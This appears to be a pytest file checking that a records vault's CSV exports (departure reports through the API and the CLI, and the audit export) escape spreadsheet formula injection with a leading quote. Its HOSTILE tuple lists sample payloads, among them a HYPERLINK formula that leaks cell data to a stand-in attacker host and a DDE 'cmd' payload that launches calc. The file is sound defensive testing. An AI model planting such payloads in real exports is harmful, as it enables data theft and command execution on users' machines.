"""Formula injection: every CSV the vault writes escapes a cell a spreadsheet would run.

A client name, a title or a purpose that starts with ``=``, ``+``, ``-``, ``@``, a tab or
a carriage return is written with a leading ``'``, so Excel or LibreOffice shows it as
text instead of running ``=HYPERLINK(...)`` or ``=cmd|...``.
"""

from __future__ import annotations

import csv
import io

import sqlalchemy as sa
from click.testing import CliRunner

from tests.factories import Factory
from vault.cli import main
from vault.models import Client

HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (cell, row)


def _touched_hostile_clients(api, make: Factory):
    """A leaver who consulted a record of each client with a hostile name."""
    leaver = make.person()
    token = make.token(leaver)
    for i, name in enumerate(HOSTILE):
        record = make.record(make.client("general", name=name, code=f"H{i}"))
        make.grant(leaver, record)
        got = api.get(f"/records/{record.id}/content?purpose={i}+client+call", token)
        assert got.status_code == 200, got.json
    return leaver


def _names(db) -> set[str]:
    """The hostile names as stored (the client form trims surrounding blanks)."""
    return {"'" + name for name in db.scalars(sa.select(Client.name)) if name[:1] in "=+-@\t\r"}


def test_departure_report_csv_escapes_hostile_client_names(api, make: Factory, db):
    leaver = _touched_hostile_clients(api, make)
    auditor = make.person(roles=("employee", "auditor"))
    got = api.get(f"/people/{leaver.id}/departure-report?format=csv", make.token(auditor))
    assert got.status_code == 200 and got.mimetype == "text/csv"
    rows = _rows(got.get_data(as_text=True))
    names = {row[rows[0].index("client_name")] for row in rows[1:]}
    assert names == _names(db) and len(names) >= 4
    _assert_no_formula(rows)


def test_departure_report_csv_on_the_command_line_escapes_them_too(api, make: Factory, db, config):
    leaver = _touched_hostile_clients(api, make)
    auditor = make.person(roles=("employee", "auditor"))
    env = {"VAULT_HOME": str(config.home), "VAULT_DATABASE_URL": config.database_url}
    out = CliRunner().invoke(
        main, ["report", "departure", leaver.email, "--as", auditor.email, "--csv"], env=env
    )
    assert out.exit_code == 0, out.output
    rows = _rows(out.output)
    names = {row[rows[0].index("client_name")] for row in rows[1:]}
    assert names == _names(db) and len(names) >= 4
    _assert_no_formula(rows)


def test_audit_csv_escapes_hostile_purposes_and_reasons(api, make: Factory, web):
    custodian = make.custodian("general")
    record = make.record(make.client("general", name="=1+1"))
    token = make.token(custodian)
    for purpose in HOSTILE:
        got = api.get(f"/records/{record.id}/content", token, query_string={"purpose": purpose})
        assert got.status_code in (200, 400), got.json
    auditor = make.person(roles=("employee", "auditor"))
    web.sign_in(auditor)
    got = web.get("/audit/export.csv")
    assert got.status_code == 200
    rows = _rows(got.get_data(as_text=True))
    purposes = {row[rows[0].index("purpose")] for row in rows[1:]}
    assert {"'" + p for p in HOSTILE if "\r" not in p and "\t" not in p} <= purposes
    _assert_no_formula(rows)
